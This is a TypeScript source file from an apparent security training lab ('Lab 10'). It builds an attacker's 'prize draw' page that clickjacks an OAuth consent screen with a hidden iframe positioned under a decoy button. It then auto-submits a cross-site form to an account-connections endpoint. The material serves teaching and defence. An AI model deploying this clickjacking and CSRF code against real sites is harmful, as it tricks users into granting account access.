import type { EvilPage, Place } from '../engine/lab.ts'
import { authorizationUrl, pkceOf } from '../engine/own-client.ts'

/**
 * Where in its frame CloudDrive's page has the button Allow, in pixels. Mallory has looked at her own page, and counted: in a frame
 * as wide as this no line above it is broken at one hour and whole at another, whose digits are narrower.
 */
const ALLOW = { x: 1160, y: 580 }
const WIDTH = 1300

/** The verifier that Mallory made up. It need not be a secret: she asks, and she hands in. */
export const { code_verifier, code_challenge } = pkceOf('a'.repeat(43))

/** What Mallory's app asks: who somebody is, and where mail reaches her. */
export const SCOPE = 'openid profile email'

type App = { client_id: string; redirect_uri: string }

/** The pages of a prize draw. What is above them cannot be seen. */
export function prizePages(place: Place, app: () => Promise<App>): Record<string, EvilPage> {
  const { auth } = place
  return {
    // With ?look the frame shows through.
    '/prize': async (req, res) => {
      const question = authorizationUrl(place, { ...(await app()), scope: SCOPE }, code_challenge)
      const seen = req.url?.includes('look') ? '0.6' : '0'
      send(
        res,
        `<style>.trick{position:relative;width:20rem;height:2.8rem;overflow:hidden}.trick button{width:100%;height:100%;margin:0}
.trick iframe{position:absolute;border:0;width:${WIDTH}px;height:1700px;left:calc(10rem - ${ALLOW.x}px);top:calc(1.4rem - ${ALLOW.y}px);opacity:${seen}}</style>
<h1>You have won a print!</h1><div class="trick"><button type="button">Collect my free print</button><iframe src="${question.replaceAll('&', '&amp;')}" title="prize"></iframe></div>
<p>Did nothing happen? <a href="/thanks">Collect it here</a>.</p>`,
      )
    },
    '/callback': (_req, res) => send(res, "<script>top.location = '/thanks'</script>"),
    '/thanks': (_req, res) =>
      send(
        res,
        `<h1>Thank you!</h1><form method="post" action="${auth}/account/connections"><input type="hidden" name="client_id" value="printshop-web"></form>
<script>document.forms[0].submit()</script>`,
      ),
  }
}

/** Alice would see nothing of the kind. A learner shall know where she is. */
const BAR =
  '<aside class="lab-bar" aria-label="This is a lab"><p><strong>Lab 10</strong> This page is Mallory’s.</p></aside>'

function send(res: Parameters<EvilPage>[1], body: string): void {
  const head =
    '<meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>Win A Print</title>'
  res.setHeader('Content-Type', 'text/html; charset=utf-8')
  res.end(
    `<!doctype html><html lang="en"><head>${head}<link rel="stylesheet" href="/evil.css"></head><body>${BAR}<main>${body}</main></body></html>`,
  )
}
